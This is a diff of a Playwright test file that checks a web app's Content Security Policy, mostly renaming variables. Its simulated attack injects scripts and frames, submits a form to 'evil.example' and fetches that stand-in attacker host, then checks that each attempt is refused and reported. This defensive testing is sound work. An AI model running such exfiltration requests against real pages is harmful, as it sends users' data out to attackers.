@@ -11,13 +11,13 @@ const reported = (logs: string): object[] =>
 /** What hostile code in the page would try, and what becomes of it. */
 const attack = (page: Page): Promise<Record<string, string>> =>
   page.evaluate(() => {
-    const fates: Record<string, string> = {}
+    const outcomes: Record<string, string> = {}
     const attempt = (name: string, work: () => unknown) => {
       try {
         work()
-        fates[name] = 'went'
+        outcomes[name] = 'went'
       } catch (error) {
-        fates[name] = (error as Error).name
+        outcomes[name] = (error as Error).name
       }
     }
     const added = (name: string, attributes: Record<string, string> = {}) => {
@@ -51,7 +51,7 @@ const attack = (page: Page): Promise<Record<string, string>> =>
       ;(added('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit()
     })
     fetch('https://evil.example/').catch(() => undefined)
-    return fates
+    return outcomes
   })
 
 /** Waits for so many reports more than there were. */
@@ -92,8 +92,8 @@ test('hostile code in the page is refused at every door, and each refusal is rep
   await openAs(page, 'ada')
   const title = await page.title()
   const before = reported(stack.logs()).length
-  const fates = await attack(page)
-  expect(Object.entries(fates).filter(([, fate]) => fate === 'went')).toEqual(
+  const outcomes = await attack(page)
+  expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'went')).toEqual(
     // Loading is refused after the element is there.
     ['inline script', 'picture', 'style', 'style sheet', 'frame', 'base', 'form'].map((name) => [
       name,
@@ -152,13 +152,17 @@ test('scripts that get into the page as it is delivered do not run: inline, from
   })
 })
 
-test('no page of the app lets itself be framed, not even by the app', async ({ page, stack, heard }) => {
+test('no page of the app lets itself be framed, not even by the app', async ({
+  page,
+  stack,
+  requestCount,
+}) => {
   await page.goto('/login')
   const before = reported(stack.logs()).length
   await page.evaluate(() => {
     document.body.append(Object.assign(document.createElement('iframe'), { src: '/recovery' }))
   })
   // A page that was never shown cannot tell anybody else.
-  heard.count += 1
+  requestCount.count += 1
   expect(await reportsSince(stack, before, 1)).toMatchObject([{ directive: 'frame-ancestors' }])
 })
